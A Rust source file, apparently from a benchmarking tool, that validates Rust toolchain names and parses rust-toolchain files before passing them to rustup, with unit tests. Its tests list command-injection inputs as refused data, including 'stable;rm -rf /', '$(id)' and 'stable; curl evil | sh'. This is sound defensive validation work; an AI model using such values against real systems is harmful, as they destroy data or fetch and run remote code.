//! Which Rust toolchain a suite builds with: the suite's `toolchain` key, else the commit's
//! `rust-toolchain` / `rust-toolchain.toml`, else the worker's own default. Old commits build
//! with the compiler they were written for, instead of failing on lints that newer compilers
//! made errors.
//!
//! Pure: names and files come from the tracked repository, so they are validated here before
//! any of them reaches `rustup`'s command line ([`crate::rustup`] installs them).

use serde::Deserialize;

/// Longest toolchain name accepted (`nightly-2024-01-01` is 18 bytes).
pub const MAX_TOOLCHAIN_NAME_LEN: usize = 40;
/// Largest toolchain file read from a commit, in bytes.
pub const MAX_TOOLCHAIN_FILE_BYTES: usize = 4096;
/// The toolchain files rustup reads, in the order it prefers them when both exist.
pub const TOOLCHAIN_FILES: [&str; 2] = ["rust-toolchain", "rust-toolchain.toml"];

/// A toolchain name that rustup can install: a release channel (`stable`, `beta`, `nightly`)
/// or a version (`1.75`, `1.75.0`), optionally with an archive date (`nightly-2024-01-01`).
/// This is the form rustup accepts in toolchain files; nothing else reaches its command line.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub struct ToolchainName(String);

impl ToolchainName {
    /// Validates `text`; the error says what is wrong, for a message naming where it came from.
    pub fn parse(text: &str) -> Result<Self, String> {
        if text.is_empty() {
            return Err("it is empty".into());
        }
        if text.len() > MAX_TOOLCHAIN_NAME_LEN {
            return Err(format!(
                "it is longer than {MAX_TOOLCHAIN_NAME_LEN} characters"
            ));
        }
        let (channel, date) = match text.split_once('-') {
            Some((channel, date)) => (channel, Some(date)),
            None => (text, None),
        };
        let named = matches!(channel, "stable" | "beta" | "nightly");
        if !named && !is_version(channel) {
            return Err(
                "use a release channel (stable, beta, nightly) or a version such as 1.75 or \
                 1.75.0, optionally with a date (nightly-2024-01-01)"
                    .into(),
            );
        }
        if let Some(date) = date
            && !is_date(date)
        {
            return Err(format!(
                "{:?} after the channel is not a date: write it as YYYY-MM-DD",
                date.chars().take(20).collect::<String>()
            ));
        }
        Ok(Self(text.to_owned()))
    }

    pub fn as_str(&self) -> &str {
        &self.0
    }
}

impl std::fmt::Display for ToolchainName {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&self.0)
    }
}

/// `1.75` or `1.75.0`: two or three numbers of at most three digits.
fn is_version(text: &str) -> bool {
    let parts: Vec<&str> = text.split('.').collect();
    (2..=3).contains(&parts.len())
        && parts
            .iter()
            .all(|p| (1..=3).contains(&p.len()) && p.bytes().all(|b| b.is_ascii_digit()))
}

/// `YYYY-MM-DD`, digits only.
fn is_date(text: &str) -> bool {
    let bytes = text.as_bytes();
    bytes.len() == 10
        && bytes.iter().enumerate().all(|(i, b)| match i {
            4 | 7 => *b == b'-',
            _ => b.is_ascii_digit(),
        })
}

/// Where a suite's toolchain was chosen, for the run's log and a failed job's message.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ToolchainSource {
    /// The suite's `toolchain` key in `kymo.toml`.
    SuiteKey,
    /// One of [`TOOLCHAIN_FILES`] at the root of the commit.
    CommitFile(&'static str),
}

impl std::fmt::Display for ToolchainSource {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            ToolchainSource::SuiteKey => f.write_str("the suite's `toolchain` key"),
            ToolchainSource::CommitFile(name) => write!(f, "the commit's {name}"),
        }
    }
}

/// A toolchain chosen for a suite, and where the choice came from.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PinnedToolchain {
    pub name: ToolchainName,
    pub source: ToolchainSource,
}

/// The suite's own key wins (it is the explicit choice, like `RUSTUP_TOOLCHAIN` over a
/// toolchain file for rustup); otherwise the commit's file; otherwise none: the worker's
/// default toolchain builds it.
pub fn choose_toolchain(
    suite_key: Option<&ToolchainName>,
    commit_file: Option<&PinnedToolchain>,
) -> Option<PinnedToolchain> {
    match suite_key {
        Some(name) => Some(PinnedToolchain {
            name: name.clone(),
            source: ToolchainSource::SuiteKey,
        }),
        None => commit_file.cloned(),
    }
}

#[derive(Deserialize)]
struct RawToolchainFile {
    toolchain: RawToolchainSection,
}

/// The keys that choose the compiler. Components, targets and the profile do not change which
/// compiler builds the benchmarks and are not installed; unknown keys are ignored, as newer
/// rustup versions may add some.
#[derive(Deserialize)]
struct RawToolchainSection {
    channel: Option<String>,
    path: Option<String>,
}

/// Reads a commit's toolchain file (`file` is its name, one of [`TOOLCHAIN_FILES`]): a single
/// line naming the toolchain (the legacy `rust-toolchain`) or TOML with a `[toolchain]` table
/// and its `channel`. `Ok(None)` when the file names no channel (a file with only components).
pub fn parse_toolchain_file(
    file: &'static str,
    bytes: &[u8],
) -> Result<Option<PinnedToolchain>, String> {
    if bytes.len() > MAX_TOOLCHAIN_FILE_BYTES {
        return Err(format!(
            "it is {} bytes; a toolchain file is at most {MAX_TOOLCHAIN_FILE_BYTES}",
            bytes.len()
        ));
    }
    let text = std::str::from_utf8(bytes).map_err(|_| "it is not valid UTF-8".to_owned())?;
    let trimmed = text.trim();
    let legacy_line = file == "rust-toolchain" && !trimmed.contains(['\n', '[', '=']);
    let channel = if legacy_line {
        Some(trimmed.to_owned())
    } else {
        let raw: RawToolchainFile = toml::from_str(text)
            .map_err(|e| format!("it is not a valid toolchain file: {}", e.message()))?;
        if raw.toolchain.path.is_some() {
            return Err(
                "it names a toolchain by `path`, which a benchmark machine does not have: \
                 name a `channel` instead"
                    .into(),
            );
        }
        raw.toolchain.channel
    };
    let Some(channel) = channel else {
        return Ok(None);
    };
    let name = ToolchainName::parse(&channel)
        .map_err(|reason| format!("its channel {:?} is invalid: {reason}", shown(&channel)))?;
    Ok(Some(PinnedToolchain {
        name,
        source: ToolchainSource::CommitFile(file),
    }))
}

/// The first 40 characters of untrusted text, for a message.
fn shown(text: &str) -> String {
    text.chars().take(40).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn release_channels_versions_and_dated_channels_are_names() {
        for good in [
            "stable",
            "beta",
            "nightly",
            "1.75",
            "1.75.0",
            "1.95.0",
            "nightly-2024-01-01",
            "stable-2023-06-01",
        ] {
            assert_eq!(ToolchainName::parse(good).unwrap().as_str(), good);
        }
    }

    #[test]
    fn hostile_and_malformed_names_are_refused() {
        let long = format!("nightly-{}", "9".repeat(60));
        for bad in [
            "",
            "--force",
            "-y",
            "+nightly",
            "stable nightly",
            "stable;rm -rf /",
            "$(id)",
            "../../bin/sh",
            "/opt/rust",
            "Stable",
            "1",
            "1.75.0.1",
            "1.7500.0",
            "v1.75",
            "nightly-2024-1-1",
            "nightly-x86_64-unknown-linux-gnu",
            "nightly-2024-01-01-extra",
            "stable\n",
            "stable\0",
            "my-toolchain",
            long.as_str(),
        ] {
            assert!(ToolchainName::parse(bad).is_err(), "{bad:?} was accepted");
        }
        let reason = ToolchainName::parse("nightly-yesterday").unwrap_err();
        assert!(reason.contains("YYYY-MM-DD"), "{reason}");
    }

    #[test]
    fn the_legacy_file_is_one_line_naming_the_toolchain() {
        let pin = parse_toolchain_file("rust-toolchain", b"nightly-2024-01-01\n")
            .unwrap()
            .unwrap();
        assert_eq!(pin.name.as_str(), "nightly-2024-01-01");
        assert_eq!(pin.source, ToolchainSource::CommitFile("rust-toolchain"));
        assert_eq!(
            pin.source.to_string(),
            "the commit's rust-toolchain",
            "messages name the file"
        );
    }

    #[test]
    fn a_toml_file_names_its_channel_and_may_list_components() {
        let text = b"[toolchain]\nchannel = \"1.95.0\"\ncomponents = [\"rustfmt\"]\nprofile = \"minimal\"\n";
        for file in TOOLCHAIN_FILES {
            let pin = parse_toolchain_file(file, text).unwrap().unwrap();
            assert_eq!(pin.name.as_str(), "1.95.0", "{file}");
        }
        let only_components = b"[toolchain]\ncomponents = [\"clippy\"]\n";
        assert_eq!(
            parse_toolchain_file("rust-toolchain.toml", only_components).unwrap(),
            None
        );
    }

    #[test]
    fn hostile_and_malformed_files_are_refused_with_a_reason() {
        let huge = vec![b'#'; MAX_TOOLCHAIN_FILE_BYTES + 1];
        let cases: &[(&'static str, &[u8], &str)] = &[
            ("rust-toolchain.toml", &huge, "bytes"),
            ("rust-toolchain.toml", b"\xff\xfe", "UTF-8"),
            (
                "rust-toolchain.toml",
                b"[toolchain\nchannel=",
                "not a valid",
            ),
            (
                "rust-toolchain.toml",
                b"channel = \"stable\"\n",
                "not a valid",
            ),
            (
                "rust-toolchain.toml",
                b"[toolchain]\nchannel = 1.95\n",
                "not a valid",
            ),
            (
                "rust-toolchain.toml",
                b"[toolchain]\npath = \"/opt/evil\"\n",
                "path",
            ),
            (
                "rust-toolchain.toml",
                b"[toolchain]\nchannel = \"--force\"\n",
                "invalid",
            ),
            ("rust-toolchain", b"stable; curl evil | sh", "invalid"),
        ];
        for &(file, bytes, expected) in cases {
            let reason = parse_toolchain_file(file, bytes).unwrap_err();
            assert!(reason.contains(expected), "{file}: {reason}");
        }
    }

    #[test]
    fn the_suite_key_wins_over_the_commit_file() {
        let file = PinnedToolchain {
            name: ToolchainName::parse("1.95.0").unwrap(),
            source: ToolchainSource::CommitFile("rust-toolchain.toml"),
        };
        let key = ToolchainName::parse("nightly").unwrap();
        let chosen = choose_toolchain(Some(&key), Some(&file)).unwrap();
        assert_eq!(
            (chosen.name.as_str(), chosen.source),
            ("nightly", ToolchainSource::SuiteKey)
        );
        assert_eq!(choose_toolchain(None, Some(&file)), Some(file));
        assert_eq!(choose_toolchain(None, None), None);
    }
}
